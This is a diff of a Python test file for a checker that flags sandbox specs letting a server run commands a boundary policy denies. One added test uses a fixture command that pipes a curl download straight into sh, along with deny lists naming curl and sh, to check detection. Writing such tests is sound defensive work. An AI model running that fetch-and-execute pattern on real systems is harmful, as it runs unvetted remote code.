@@ -176,8 +176,8 @@ def test_a_denied_command_allowed_by_its_path_is_an_excess() -> None:
     for allow in ("[/usr/bin/curl]", "[tail]", "[/usr/local/bin/curl, git]"):
         found = _check(_server(f"    process: {{allow: {allow}}}\n"), boundary)
         assert [e.code for e in found] == ["BX006", "BX006"][: len(found)] and found, (allow, found)
-    assert _check(_server("    process: {allow: [git]}\n"), boundary) == []
-    assert _check(_server("    process: {allow: [git, /usr/bin/curl], deny: [curl, /usr/bin/curl]}\n"), boundary) == []
+    assert _check(_server("    process: {allow: [git], deny: [curl, /usr/bin/tail]}\n"), boundary) == []
+    assert _check(_server("    process: {allow: [git, /usr/bin/curl], deny: [curl, /usr/bin/curl, /usr/bin/tail]}\n"), boundary) == []
 
 
 def test_a_command_denied_by_name_runs_when_the_spec_allows_its_path_and_the_check_names_it(sandbox: Sandbox) -> None:
@@ -266,3 +266,21 @@ def test_another_uid_reads_a_mounted_file_the_boundarys_cannot_and_the_check_nam
     text = spec.read_text(encoding="utf-8")
     found = check(load_text(text, str(spec)), load_text(text.replace("    runtime: {user: 1000}\n", ""), "boundary.yaml"))
     assert [(e.code, e.path[-1]) for e in found] == [("BX006", "user"), ("BX006", "user")], found
+
+
+def test_the_servers_own_program_is_held_to_the_boundarys_deny(sandbox: Sandbox) -> None:
+    boundary = _server("    process: {deny: [sh, curl]}\n")
+    shell = "version: 1\nproject: p\nservers:\n  fetch:\n    command: 'curl -s https://example.invalid | sh'\n    process: {allow: [git]}\n"
+    (excess,) = _check(shell, boundary)
+    assert "may spawn /bin/sh, which the boundary denies (sh)" in excess.message, excess
+    assert _check(_server("    process: {allow: [git], deny: [sh, curl]}\n"), boundary) == []
+    # For real: the probe server is /usr/bin/python3, which a boundary denying python3 keeps out.
+    spec = sandbox.spec("ownprogram", f"{SITE}\n    process: {{allow: [git]}}")
+    ran = call_tools(sandbox.build(spec), [("spawn", {"argv": ["/usr/bin/python3", "-c", "print(7 * 6)"]}), ("spawn", {"argv": ["tail", "--version"]})],
+                     {"MCPSPEC_RUN_ID": "run-a", "HOME": "/root"})
+    assert ran[0]["ok"] is True and ran[0]["stdout"].strip() == "42", ran
+    assert ran[1]["ok"] is True and ran[1]["status"] == 0, ran  # process.allow: [git] is not enforced
+    text = spec.read_text(encoding="utf-8")
+    for denied, said in (("python3", "python3, which the boundary denies"), ("tail", "tail, which the boundary denies (process.allow is not enforced")):
+        found = check(load_text(text, str(spec)), load_text(text.replace("process: {allow: [git]}", f"process: {{allow: [git], deny: [{denied}]}}"), "boundary.yaml"))
+        assert [e.code for e in found] == ["BX006"] and said in found[0].message, found
